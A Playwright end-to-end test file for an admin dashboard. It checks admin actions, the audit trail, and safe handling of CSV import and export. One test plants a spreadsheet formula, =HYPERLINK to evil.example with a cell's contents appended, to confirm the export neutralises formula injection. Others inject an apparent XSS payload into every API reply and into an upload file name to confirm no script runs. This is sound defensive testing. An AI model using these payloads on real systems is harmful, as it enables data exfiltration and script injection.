import { readFile } from 'node:fs/promises'
import { expect, type Page, test } from '@playwright/test'
import { importUser } from '../support/backEnd.ts'
import {
  createTargets,
  DASHBOARD_ACTIONS,
  MEMBERS_APP_ID,
  openFreshView,
  PAYLOAD,
} from '../support/dashboardActions.ts'
import { fillReply } from '../support/fillReply.ts'
import { openDashboard } from '../support/openDashboard.ts'
import { sharePage } from '../support/sharePage.ts'

test.setTimeout(120_000)
const shared = sharePage(async (page) => {
  await openDashboard(page, 'operator@example.com')
  return { targets: await createTargets() }
})

for (const { name, appId, view, run, done } of DASHBOARD_ACTIONS)
  test(`an admin can ${name}`, async () => {
    const { page, targets } = shared
    await openFreshView(page, view(targets), appId)
    await run(page, targets)
    await done(page, targets)
  })

test('the audit trail has each action with its operator and result', async () => {
  const { page, trouble } = shared
  await openFreshView(page, 'audit')
  const table = page.getByRole('table', { name: 'Audit trail' })
  for (const action of [
    ...['metadata.set', 'account.unlink', 'sessions.end', 'user.delete', 'user.restore'],
    ...['user.import', 'allowlist.add', 'allowlist.remove', 'denylist.add', 'denylist.remove'],
    ...['webhook.test', 'webhook.replay', 'policy.update'],
  ]) {
    const row = table.getByRole('row').filter({ has: page.getByTitle(action, { exact: true }) })
    await expect(row.first()).toContainText('operator@example.com (admin)')
    await expect(row.first()).toContainText('done')
  }
  expect(trouble).toEqual([])
})

test('an exported CSV has no cell that a spreadsheet runs as a formula', async () => {
  const { page } = shared
  const formula = `=HYPERLINK("https://evil.example?"&A1,"x")${Date.now()}`
  await importUser([{ type: 'custom_auth', custom_user_id: formula }])
  await importUser([{ type: 'custom_auth', custom_user_id: `a;${formula}` }])
  await openFreshView(page, 'users')
  const downloading = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export CSV' }).click()
  const text = await readFile(await (await downloading).path(), 'utf8')
  await expect(page.getByText(/^Users written to users.csv:/)).toBeVisible()
  expect(text).toContain('HYPERLINK')
  // Spreadsheets split at commas, semicolons or tabs, whichever their language has.
  const cells = text.split(/[;,\t\r\n]/)
  expect(cells.filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([])
})

test('a failed line of an import is shown as text', async () => {
  const { page } = shared
  await openFreshView(page, 'users')
  const rows = ['email', `"${PAYLOAD.replaceAll('"', '""')}"`, '"=1+1"']
  await page.locator('input[type="file"]').setInputFiles({
    name: `${PAYLOAD.replaceAll('/', '')}.csv`,
    mimeType: 'text/csv',
    buffer: Buffer.from(rows.join('\n')),
  })
  await expect(page.getByText('Failed lines: 2')).toBeVisible()
  await expectNoMarkup(page)
})

/** Strings of the protocol that the page compares. Every other string of a reply may come from a user. */
const PROTOCOL = new Set([
  ...['viewer', 'support', 'admin', 'delivered', 'failed', 'waiting', 'configuration', 'default'],
  ...['token', 'root', 'next', 'current', 'retired', 'user', 'email', 'emailDomain', 'phone'],
  ...['wallet', 'ethereum', 'solana', 'ALLOW', 'DENY', '*', '1.0', 'custom_auth'],
])

/** Puts the payload into every string of a reply. */
const poison = (value: unknown): unknown =>
  typeof value === 'string'
    ? PROTOCOL.has(value)
      ? value
      : value + PAYLOAD
    : Array.isArray(value)
      ? value.map(poison)
      : value !== null && typeof value === 'object'
        ? Object.fromEntries(Object.entries(value).map(([key, each]) => [key, poison(each)]))
        : value

async function expectNoMarkup(page: Page) {
  await expect(page.locator('img[src="x"], svg[onload], a[href^="javascript:"]')).toHaveCount(0)
  expect(await page.evaluate(() => 'hit' in window)).toBe(false)
}

test('markup in any string of any reply is shown as text, and no script runs', async () => {
  const { page, targets, trouble } = shared
  trouble.length = 0
  await page.route('**/api/v1/operator/**', async (route) => {
    const response = await route.fetch()
    const reply = (await response.json()) as Record<string, unknown>
    // The page reads the next page with the cursor, and its own address from the id of the app.
    const { pathname } = new URL(route.request().url())
    const filled = fillReply(pathname, reply)
    const json = pathname.endsWith('/me')
      ? reply
      : { ...(poison(filled) as object), ...cursorOf(reply) }
    await route.fulfill({ response, json })
  })
  const views: [string, string?][] = [
    ...['overview', 'users', 'wallets', 'denylist', 'logs', 'configuration', 'policies'].map(
      (view): [string] => [view],
    ),
    ['audit'],
    ['keys'],
    ['allowlist', MEMBERS_APP_ID],
    ['webhooks', MEMBERS_APP_ID],
    [`users/${encodeURIComponent(targets.userId)}`],
    [`policies/${targets.policyId}`],
  ]
  for (const [view, appId] of views) {
    await openFreshView(page, view, appId)
    await expect(page.locator('main .empty[role="alert"]'), view).toHaveCount(0)
    await expectNoMarkup(page)
    await expect(page.locator('main'), view).toContainText('onerror=window.hit')
  }
  await page.unrouteAll({ behavior: 'ignoreErrors' })
  expect(trouble).toEqual([])
})

const cursorOf = (reply: object) =>
  'next_cursor' in reply ? { next_cursor: reply.next_cursor } : {}
